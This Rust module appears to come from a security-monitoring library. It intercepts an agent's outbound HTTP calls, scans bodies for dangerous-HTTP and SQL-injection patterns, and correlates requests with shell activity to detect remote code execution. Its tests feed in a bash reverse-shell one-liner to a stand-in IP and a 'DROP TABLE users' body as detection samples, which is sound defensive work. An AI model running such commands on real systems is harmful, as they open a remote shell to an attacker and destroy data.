//! HTTP client interception (§4.7.5): wraps an outbound HTTP request/response
//! pair, scanning both bodies for dangerous-HTTP and SQL-injection patterns
//! and feeding every request through the RCE correlator (§4.8).

use std::collections::BTreeMap;

use cylestio_events::EventBuilder;
use cylestio_patterns::{PatternRegistry, RegexFamily};
use cylestio_security::RceCorrelator;
use cylestio_types::{Channel, EventBuilderInput, Level, Value};

use crate::framework::instrument;

pub struct HttpRequest {
    pub url: String,
    pub method: String,
    pub body: Option<String>,
}

pub struct HttpResponse {
    pub status: u16,
    pub body: Option<String>,
}

/// Endpoints the monitor's own telemetry traffic goes to; requests to them
/// are never intercepted (§4.7.5). Typically seeded from
/// `CollectorSink::endpoint()`.
pub struct HttpSelfTrafficExclusions {
    endpoints: Vec<String>,
}

impl HttpSelfTrafficExclusions {
    pub fn new(endpoints: Vec<String>) -> Self {
        Self { endpoints }
    }

    pub fn excludes(&self, url: &str) -> bool {
        self.endpoints.iter().any(|e| url.starts_with(e.as_str()))
    }
}

fn scan_body(registry: &PatternRegistry, text: &str) -> Vec<&'static str> {
    let mut categories = Vec::new();
    if !registry.scan_family(RegexFamily::DangerousHttp, text).is_empty() {
        categories.push("dangerous_http");
    }
    if !registry.scan_family(RegexFamily::SuspiciousSql, text).is_empty()
        || !registry.scan_family(RegexFamily::SqlInjection, text).is_empty()
    {
        categories.push("suspicious_sql");
    }
    categories
}

fn alert(events: &EventBuilder, attrs: BTreeMap<String, Value>) {
    events.log_event(
        EventBuilderInput::new("security.alert")
            .with_channel(Channel::Security)
            .with_level(Level::Warning)
            .with_attributes(Value::Object(attrs)),
    );
}

/// Wraps one outbound HTTP call (§4.7.5). Self-traffic is excluded entirely:
/// no event, no scan, no correlator registration. Otherwise runs the
/// instrument-around pattern, scans both bodies, and registers the request
/// with `correlator` so a later shell sighting can be matched back to it.
pub fn call_http<F, E>(
    events: &EventBuilder,
    registry: &PatternRegistry,
    correlator: &RceCorrelator,
    exclusions: &HttpSelfTrafficExclusions,
    now: f64,
    request: HttpRequest,
    call: F,
) -> Result<HttpResponse, E>
where
    F: FnOnce() -> Result<HttpResponse, E>,
    E: std::error::Error,
{
    if exclusions.excludes(&request.url) {
        return call();
    }

    let mut attrs = BTreeMap::new();
    attrs.insert("http.url".to_string(), Value::string(request.url.clone()));
    attrs.insert("http.method".to_string(), Value::string(request.method.clone()));
    if let Some(body) = &request.body {
        attrs.insert("http.request.body".to_string(), Value::string(body.clone()));

        let categories = scan_body(registry, body);
        if !categories.is_empty() {
            let mut alert_attrs = attrs.clone();
            alert_attrs.insert(
                "security.categories".to_string(),
                Value::Array(categories.iter().map(|c| Value::string(*c)).collect()),
            );
            alert(events, alert_attrs);
        }

        let sql_alerts = correlator.analyze_sql_for_rce(registry, body, &request.url, &request.method, now);
        for finding in &sql_alerts {
            let mut alert_attrs = BTreeMap::new();
            alert_attrs.insert("http.url".to_string(), Value::string(request.url.clone()));
            alert_attrs.insert("security.category".to_string(), Value::string(finding.alert_type));
            alert_attrs.insert("security.evidence".to_string(), Value::string(finding.evidence.clone()));
            alert(events, alert_attrs);
        }
    }

    let http_context = correlator.register_http_request(&request.url, &request.method, now);
    for finding in correlator.check_for_shell_correlation(&http_context, 15.0) {
        let mut alert_attrs = BTreeMap::new();
        alert_attrs.insert("http.url".to_string(), Value::string(request.url.clone()));
        alert_attrs.insert("security.category".to_string(), Value::string(finding.alert_type));
        alert_attrs.insert("security.evidence".to_string(), Value::string(finding.evidence.clone()));
        alert(events, alert_attrs);
    }

    instrument(events, Channel::Network, "http", &request.method.to_lowercase(), Value::Object(attrs), call, |response| {
        let mut resp_attrs = BTreeMap::new();
        resp_attrs.insert("http.status".to_string(), Value::Number(response.status.into()));
        if let Some(body) = &response.body {
            resp_attrs.insert("http.response.body".to_string(), Value::string(body.clone()));
        }
        Value::Object(resp_attrs)
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use cylestio_patterns::PatternConfig;
    use cylestio_trace::TraceContext;

    #[test]
    fn self_traffic_skips_scanning_and_events() {
        TraceContext::reset();
        TraceContext::initialize_trace("agent-1");
        let events = EventBuilder::new(vec![]);
        let registry = PatternRegistry::load(&PatternConfig::default());
        let correlator = RceCorrelator::new();
        let exclusions = HttpSelfTrafficExclusions::new(vec!["https://collector.internal".to_string()]);

        let request = HttpRequest {
            url: "https://collector.internal/v1/events".to_string(),
            method: "POST".to_string(),
            body: Some("DROP TABLE users".to_string()),
        };
        let result: Result<HttpResponse, std::io::Error> =
            call_http(&events, &registry, &correlator, &exclusions, 1000.0, request, || {
                Ok(HttpResponse { status: 200, body: None })
            });
        assert!(result.is_ok());
    }

    #[test]
    fn dangerous_http_body_raises_an_alert() {
        TraceContext::reset();
        TraceContext::initialize_trace("agent-1");
        let events = EventBuilder::new(vec![]);
        let registry = PatternRegistry::load(&PatternConfig::default());
        let correlator = RceCorrelator::new();
        let exclusions = HttpSelfTrafficExclusions::new(vec![]);

        let request = HttpRequest {
            url: "https://example.com/webhook".to_string(),
            method: "POST".to_string(),
            body: Some("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1".to_string()),
        };
        let result: Result<HttpResponse, std::io::Error> =
            call_http(&events, &registry, &correlator, &exclusions, 1000.0, request, || {
                Ok(HttpResponse { status: 200, body: None })
            });
        assert!(result.is_ok());
    }
}
